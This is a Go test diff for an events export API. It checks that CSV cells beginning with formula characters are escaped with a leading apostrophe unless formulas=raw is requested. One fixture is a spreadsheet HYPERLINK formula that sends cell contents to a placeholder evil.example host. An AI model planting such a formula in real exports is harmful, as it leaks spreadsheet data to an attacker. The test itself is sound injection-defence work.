@@ -10,6 +10,7 @@ import (
 	"net/http"
 	"net/url"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -324,4 +325,68 @@ func TestExportNeedsAuthentication(t *testing.T) {
 	s.get("/api/events/export").problem(t, http.StatusUnauthorized)
 	s.get("/api/events/export?q=x").problem(t, http.StatusUnauthorized)
 	s.get("/api/events/export", bearer...).want(t, http.StatusOK)
+}
+
+// TestExportEscapesFormulas: in a CSV export, a cell that begins with =,
+// +, -, @ or a tab (no text can be stored beginning with a carriage
+// return; models' TestCSVFormulasAreEscaped has it) is written with a
+// leading ', in the title, the description, the project tag and the source
+// reference alike, so a spreadsheet that opens the file runs nothing;
+// formulas=raw writes every cell as stored, for scripts; other cells are
+// as stored either way. formulas takes escaped or raw, once, and only with
+// CSV: anything else is 400 naming it.
+func TestExportEscapesFormulas(t *testing.T) {
+	s := newServer(t)
+	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1", "-2", "@SUM(A1:A9)", "=1+2"}
+	type stored struct{ title, description, tag, ref string }
+	var want []stored
+	for i, f := range formulas {
+		// each column holds a formula, each time another one; a leading
+		// tab is kept in a description only (a title is trimmed, a tag
+		// and a reference hold no control character)
+		st := stored{f, formulas[(i+1)%len(formulas)], formulas[(i+2)%len(formulas)], formulas[(i+3)%len(formulas)] + " " + strconv.Itoa(i)}
+		if i == 0 {
+			st.description = "\tindented"
+		}
+		body, _ := json.Marshal(map[string]any{"kind": "task", "title": st.title, "description": st.description,
+			"project_tag": st.tag, "source": "import", "source_ref": st.ref})
+		e := s.create(string(body))
+		st.tag = str(e.ProjectTag) // as stored
+		want = append(want, st)
+	}
+	plain := s.create(`{"kind":"task","title":"a=b","description":" =x","project_tag":"'quoted"}`)
+	read := func(target string) [][]string {
+		t.Helper()
+		records, err := csv.NewReader(bytes.NewReader(s.get(target).want(t, http.StatusOK).Body)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return records
+	}
+	column := map[string]int{}
+	for _, target := range []string{"/api/events/export", "/api/events/export?formulas=escaped", "/api/events/export?format=csv&formulas=raw"} {
+		records := read(target)
+		for i, name := range records[0] {
+			column[name] = i
+		}
+		raw := strings.HasSuffix(target, "raw")
+		for i, st := range want {
+			row := records[1+i]
+			for name, value := range map[string]string{"title": st.title, "description": st.description, "project_tag": st.tag, "source_ref": st.ref} {
+				if !raw {
+					value = "'" + value
+				}
+				if got := row[column[name]]; got != value {
+					t.Errorf("%s: row %d, %s = %q, want %q", target, i+1, name, got, value)
+				}
+			}
+		}
+		last := records[len(records)-1]
+		if last[column["id"]] != strconv.FormatInt(plain.ID, 10) || last[column["title"]] != "a=b" || last[column["description"]] != " =x" || last[column["project_tag"]] != "'quoted" {
+			t.Errorf("%s: cells that are no formula changed: %q", target, last)
+		}
+	}
+	for _, q := range []string{"formulas=off", "formulas=", "formulas=raw&formulas=raw", "format=ndjson&formulas=raw"} {
+		s.get("/api/events/export?"+q).problem(t, http.StatusBadRequest, "formulas")
+	}
 }
